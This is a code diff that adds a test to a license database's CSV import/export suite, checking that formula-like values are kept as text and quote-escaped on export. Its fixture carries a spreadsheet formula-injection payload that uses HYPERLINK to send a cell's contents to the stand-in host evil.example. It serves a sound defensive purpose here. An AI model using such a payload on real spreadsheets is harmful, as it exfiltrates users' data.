@@ -99,6 +99,23 @@ describe('import and export', () => {
 		assert.deepEqual(kept(again), kept(l));
 	});
 
+	test('what a spreadsheet would take for a formula is a text there, and comes back as it was', async () => {
+		const tag = randomBytes(6).toString('hex');
+		const keys = [`=${tag}`, `+${tag}`, `-${tag}`, `@${tag}`, `'${tag}`, `'=${tag}`];
+		const quote = (x) => (/^['=+@-]/.test(x) ? `'${x}` : x);
+		const csv = `license_key,name,max_devices\n${keys.map((k) => `${quote(k)},"'=HYPERLINK(""http://evil.example?""&A1,""x"")",-1`).join('\n')}\n`;
+		assert.equal(await ctl('import', file(csv)), '6 imported\n');
+		const kept = async () => (await w.stack.rows(`SELECT license_key, name, max_devices FROM licenses WHERE license_key LIKE '%${tag}' ORDER BY id`));
+		const were = await kept();
+		assert.deepEqual(were, keys.map((k) => [k, '=HYPERLINK("http://evil.example?"&A1,"x")', '-1']));
+		const out = (await ctl('export')).split('\n');
+		const mine = out.filter((l) => l.includes(tag));
+		assert.deepEqual(mine.filter((l) => !l.startsWith("'") || !l.includes(`,"'=HYPERLINK`)), []);
+		await w.stack.rows(`DELETE FROM licenses WHERE license_key LIKE '%${tag}'`);
+		assert.equal(await ctl('import', file(`${[out[0], ...mine].join('\n')}\n`)), '6 imported\n');
+		assert.deepEqual(await kept(), were);
+	});
+
 	test('every line that is wrong is named, and then nothing is kept', async () => {
 		const tag = randomBytes(6).toString('hex');
 		const bad = file(`license_key,email,plan,expires_at,max_devices\n${tag}-good,,pro,,\n${tag}-good,,pro,,\nshort,,pro,,\n${tag}-gold,,gold,,\n${tag}-who,nobody@example.com,pro,,\n${tag}-date,,pro,soon,\n${tag}-none,,pro,,0\n${tag}-few,,pro\n`);
